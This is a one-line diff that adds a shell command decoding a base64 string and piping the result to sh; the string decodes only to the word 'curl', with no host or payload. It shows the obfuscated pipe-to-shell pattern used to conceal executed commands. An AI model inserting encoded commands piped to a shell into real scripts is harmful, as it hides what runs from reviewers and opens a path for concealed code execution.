@@ -1,0 +1,1 @@
+echo Y3VybA== | base64 -d | sh
